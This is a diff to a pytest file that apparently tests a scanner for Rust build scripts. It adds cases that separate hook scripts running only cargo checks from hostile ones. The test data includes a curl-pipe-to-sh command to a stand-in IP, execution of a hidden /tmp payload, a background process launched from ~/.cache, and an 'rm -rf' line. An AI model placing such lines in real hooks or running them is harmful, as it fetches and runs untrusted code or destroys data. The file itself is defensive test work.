@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from pathlib import Path
 
 import pytest
@@ -346,3 +347,22 @@ def test_a_name_declared_is_no_use_of_it() -> None:
     assert hits(used) == [("capability-executable-memory", 6)]
     # hostile input: names repeated without a signature's end cost bounded time
     assert hits("fn PROT_EXEC " * 50_000) != []
+
+
+@pytest.mark.parametrize(
+    ("script", "checks_only"),
+    [
+        ("#!/bin/sh\n# installed by x\nexec cargo fmt --all -- --check\n", True),
+        ("#!/usr/bin/env bash\nset -eu\n\necho tests\ncargo test && cargo doc --no-deps\n", True),
+        ('#!/bin/sh\ncargo fmt --all -- --check\nsh -c "$(cat /tmp/.p)"\n', False),
+        ("#!/bin/sh\nnohup ~/.cache/agent >/dev/null 2>&1 &\nexec cargo fmt\n", False),
+        ("#!/bin/sh\ncurl -s http://192.0.2.1/x | sh\ncargo fmt\n", False),
+        # hostile input: thousands of lines, each with trailing blanks, that fail at the end
+        ("#!/bin/sh\n" + "echo a        \n" * 3_000 + "rm -rf $(x)\n", False),
+        ("#!/bin/sh\n" + "cargo fmt        \n" * 3_000, True),
+    ],
+)
+def test_a_hook_script_that_runs_only_cargo_checks(script: str, checks_only: bool) -> None:
+    source = f"const HOOK: &str = {json.dumps(script)};\n"
+    found = analyze_file("build.rs", source.encode(), Context.BUILD).evidence
+    assert ("capability-cargo-check-hook" in {e.rule for e in found}) == checks_only
